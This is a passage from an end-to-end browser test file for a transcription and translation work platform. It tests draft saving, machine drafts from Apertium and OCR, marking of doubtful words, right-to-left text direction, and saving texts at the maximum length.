    await gus.getByRole('button', { name: 'Claim next task' }).click();
    await gus.waitForURL(`**/work/tasks/task-${sooner}-work`);
    await expect.poll(formText(gus)).toContain('[00:00:01] Hello from the machine.');
    await axeCheck(gus);

    // The page's timers stand still (no autosave can run): only the beacon on leaving can save.
    await gus.clock.install();
    await gus.reload();
    await expect.poll(formText(gus)).toContain('Hello from the machine.');
    await textBox(gus).fill('[00:00:01] Speaker 1: Typed a moment before the tab closed.');
    await gus.close({ runBeforeUnload: true });
    await expect
      .poll(async () => (await getTask(service.database.db, `task-${sooner}-work`))!.draft, { timeout: 10_000 })
      .toBe('[00:00:01] Speaker 1: Typed a moment before the tab closed.');
  });

  it.skipIf(!hasLeg('apertium'))(
    "each product's editor opens with its machine draft: transcription, captions and proofreading, translation and subtitles (Apertium), OCR (tesseract.js) [needs Apertium]",
    async () => {
      const account = await service.createAccount(100);
      const place = async (path: string, fields: Record<string, unknown>) => {
        const { orderId } = await placeOrder(service, { token: account.token, path, fields });
        await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], `the ${path} task`, 60_000);
        return orderId;
      };
      const spoken = { url: media.audio(20), language: 'english' };
      const orders: Array<[string, number, RegExp, RegExp?]> = [
        ['Transcript', await place('transcriptions', spoken), /Hello from the machine\./],
        ['Transcript', await place('captions', spoken), /Hello from the machine\./],
        // The supplied transcript passes the automatic check against the engine's words: it is the draft.
        [
          'Transcript',
          await place('transcription-proofreadings', {
            audio_url: spoken.url,
            language: 'english',
            transcription_url: docs.serve('/supplied.txt', 'Hello from the machine. Second sentence, supplied.', 'text/plain'),
          }),
          /Second sentence, supplied\./,
        ],
        [
          'Translation',
          await place('translations', {
            url: docs.serve('/house.txt', 'The house is red.\n\nWe will meet tomorrow at the station.', 'text/plain'),
            translate_from: 'english',
            translate_to: 'spanish',
          }),
          /casa es roja[\s\S]*mañana/i,
          /Machine translation draft \(english to spanish\) by apertium/,
        ],
        // Subtitles: the engine's English words, machine-translated segment by segment, times kept.
        [
          'Transcript',
          await place('subtitles', { url: media.audio(20), translate_from: 'english', translate_to: 'spanish' }),
          /^\[00:00:01\] .*máquina/im,
          /by apertium/,
        ],
        [
          'Text',
          await place('human-ocr', { url: docs.serve('/letter.png', await scannedPage(OCR_LINES), 'image/png'), language: 'english' }),
          /committee met on Tuesday/,
          /OCR draft of 1 page \(confidence: page 1 \d+%\)/,
        ],
      ];
      const dora = await signIn('Dora');
      for (const [label, orderId, draft, note] of orders) {
        await dora.goto(`/work/tasks/task-${orderId}-work`);
        await dora.getByRole('button', { name: 'Claim' }).click();
        await dora.waitForURL(`**/work/tasks/task-${orderId}-work`);
        // The text box of the product's editor, by its name.
        await expect.poll(() => dora.getByLabel(label, { exact: true }).isVisible(), { message: `order ${orderId}` }).toBe(true);
        await expect.poll(formText(dora), { message: `order ${orderId}` }).toMatch(draft);
        if (note) expect(await dora.locator('#engine-note').textContent()).toMatch(note);
        await dora.getByRole('button', { name: 'Give the task back' }).click();
      }
      await axeCheck(dora);
    },
    180_000,
  );

  it("marks the draft's doubtful words in the editor (a dotted underline, named for screen readers), Alt+N selects the next and says which, a word typed over loses its mark, and the delivery measures doubtful and confident words apart", async () => {
    // The user's engine doubts "copy", "right" and "prominence" (probability under 0.5).
    engine.behaviour = {
      kind: 'transcript',
      body: verboseJson([
        ['The', 1, 1.2, 0.95],
        ['copy', 1.3, 1.6, 0.31],
        ['right', 1.7, 2, 0.42],
        ['notice', 2.1, 2.6, 0.9],
        ['stays.', 2.7, 3, 0.88],
        ['A', 12, 12.2, 0.97],
        ['prominence', 12.3, 13, 0.2],
        ['notice.', 13.1, 13.6, 0.93],
      ]),
    };
    try {
      const account = await service.createAccount(20);
      const { orderId } = await placeOrder(service, { token: account.token, fields: { url: media.audio(30), language: 'dutch' } });
      await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], 'the work task');
      const dirk = await signIn('Dirk');
      await dirk.goto(`/work/tasks/task-${orderId}-work`);
      await dirk.getByRole('button', { name: 'Claim' }).click();
      await dirk.waitForURL(`**/work/tasks/task-${orderId}-work`);
      const box = textBox(dirk);
      await expect.poll(formText(dirk)).toBe('[00:00:01] The copy right notice stays.\n\n[00:00:12] A prominence notice.');

      // Named under the editor and tied to the text box; underlined with dots, not by colour alone.
      const help = dirk.locator('#doubt-help');
      expect(await help.textContent()).toContain(
        'The engine was unsure of 3 words of the draft, underlined with dots in the text (Alt+N selects the next): copy, right, prominence.',
      );
      expect(await box.getAttribute('aria-describedby')).toBe('doubt-help');
      const marks = box.locator('.word.doubtful');
      await expect.poll(() => marks.allTextContents()).toEqual(['copy', 'right', 'prominence']);
      expect(await marks.first().evaluate((m) => getComputedStyle(m).textDecorationStyle)).toBe('dotted');
      expect(await marks.first().getAttribute('data-confidence')).toBe('0.31');
      await axeCheck(dirk);
      await screenshot(dirk, 'workbench-doubtful-words');

      // Alt+N selects each in turn, plays from just before it, and the status says which.
      const selected = () => dirk.evaluate(() => String(getSelection()));
      await box.click();
      await box.press('Control+Home');
      for (const [n, word] of [
        [1, 'copy'],
        [2, 'right'],
        [3, 'prominence'],
        [1, 'copy'],
      ] as const) {
        await dirk.keyboard.press('Alt+n');
        await expect.poll(selected).toBe(word);
        expect(await dirk.locator('#editor-status').textContent()).toBe(`Doubtful word ${n} of 3: ${word}`);
      }
      await expect.poll(playerTime(dirk)).toBeGreaterThan(0.2);
      await dirk.locator('#player').evaluate((a: HTMLAudioElement) => a.pause());
      // Typed over, "copy" is no longer doubted; the marks after it move with the text.
      await dirk.keyboard.type('copyright');
      await expect.poll(() => marks.allTextContents()).toEqual(['right', 'prominence']);
      await dirk.keyboard.press('Alt+n');
      await expect.poll(selected).toBe('right');
      expect(await dirk.locator('#editor-status').textContent()).toBe('Doubtful word 1 of 2: right');
      // Confirmed as right (Alt+Y), it is no longer doubted either.
      await dirk.keyboard.press('Alt+y');
      await expect.poll(() => marks.allTextContents()).toEqual(['prominence']);
      await dirk.locator('#player').evaluate((a: HTMLAudioElement) => a.pause());

      // Delivered: whether the marks pointed at the words people fixed is measured, doubtful and confident apart.
      const fixed = '[00:00:01] Speaker 1: The copyright notice stays.\n\n[00:00:12] Speaker 1: A prominent notice.';
      await box.fill(fixed);
      await dirk.getByRole('button', { name: 'Submit' }).click();
      await dirk.waitForURL('**/work/queue');
      const rudi = await signIn('Rudi');
      await rudi.goto(`/work/tasks/task-${orderId}-review-1`);
      await rudi.getByRole('button', { name: 'Claim' }).click();
      await rudi.getByRole('button', { name: 'Approve' }).click();
      await rudi.waitForURL('**/work/queue');
      const series = (confidence: string) =>
        new RegExp(`workbench_draft_words_changed_ratio_count\\{product="transcription",confidence="${confidence}"\\} [1-9]`);
      await expect.poll(async () => (await fetch(`${service.baseUrl}/metrics`)).text(), { timeout: 15_000 }).toMatch(series('doubtful'));
      expect(await (await fetch(`${service.baseUrl}/metrics`)).text()).toMatch(series('confident'));
    } finally {
      engine.behaviour = { kind: 'transcript', body: verboseJson(DRAFT_WORDS) };
    }
  });

  it("types right-to-left languages right to left: an Arabic transcript's text box, a translation into Hebrew beside its English source", async () => {
    const account = await service.createAccount(20);
    const arabic = await placeOrder(service, { token: account.token, fields: { url: media.audio(30), language: 'arabic' } });
    const hebrew = await placeOrder(service, {
      token: account.token,
      path: 'translations',
      fields: { url: docs.serve('/letter-en.txt', 'Dear customer, your order is ready.', 'text/plain'), translate_from: 'english', translate_to: 'hebrew' },
    });
    const amal = await signIn('Amal');
    const direction = (locator: Locator) => locator.evaluate((element) => getComputedStyle(element).direction);
    for (const placed of [arabic, hebrew]) {
      const orderId = placed.body.order_id as number;
      await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0], 'the work task');
      await amal.goto(`/work/tasks/task-${orderId}-work`);
      await amal.getByRole('button', { name: 'Claim' }).click();
      await amal.waitForURL(`**/work/tasks/task-${orderId}-work`);
    }
    await amal.goto(`/work/tasks/task-${arabic.body.order_id}-work`);
    const box = textBox(amal);
    expect(await direction(box)).toBe('rtl');
    expect(await box.getAttribute('lang')).toBe('ar');
    await amal.goto(`/work/tasks/task-${hebrew.body.order_id}-work`);
    const translation = amal.getByLabel('Translation');
    expect(await direction(translation)).toBe('rtl');
    expect(await translation.getAttribute('lang')).toBe('he');
    const source = amal.locator('.source-text');
    expect(await direction(source)).toBe('ltr');
    expect(await source.getAttribute('lang')).toBe('en');
    await axeCheck(amal);
  });

  it('saves and submits a text at the limit (MAX_WORK_TEXT characters of CJK and emoji): the page says Saved, not Not saved', async () => {
    const account = await service.createAccount(20);
    const { orderId } = await placeOrder(service, { token: account.token, fields: { url: media.audio(30), language: 'english' } });
    const taskId = await waitFor(async () => (await tasksOfOrder(service.database.db, orderId))[0]?.id, 'the work task');
    const lena = await signIn('Lena');
    await lena.goto(`/work/tasks/${taskId}`);
    await lena.getByRole('button', { name: 'Claim' }).click();
    await lena.waitForURL(`**/work/tasks/${taskId}`);
    await expect.poll(formText(lena)).toContain('Hello from the machine.');

    // Paragraphs of CJK and emoji, exactly at the limit: the autosave sends them as one change (JSON).
    const line = `${'漢字かな🎉'.repeat(160)}\n`;
    const text = `[00:00:01] Speaker 1: ${line.repeat(Math.ceil(MAX_WORK_TEXT / line.length))}`.slice(0, MAX_WORK_TEXT);
    expect([text.length, /[\ud800-\udbff]$/.test(text)]).toEqual([MAX_WORK_TEXT, false]);
    // Two million characters typed into the editor at once: seconds of Chromium's work on a slow core.
    await textBox(lena).fill(text, { timeout: 60_000 });
    await expect.poll(() => lena.locator('#save-status').textContent(), { timeout: 20_000 }).toMatch(/^Saved at/);
    expect((await getTask(service.database.db, taskId))!.draft === text).toBe(true);

    // Submit sends the form (application/x-www-form-urlencoded: 9 bytes a CJK character, each line break CRLF).
    await lena.getByRole('button', { name: 'Submit' }).click();
    await lena.waitForURL('**/work/queue', { timeout: 30_000 });
    const submitted = (await getTask(service.database.db, taskId))!;
    expect([submitted.status, submitted.draft === text]).toEqual(['submitted', true]);
  });
});
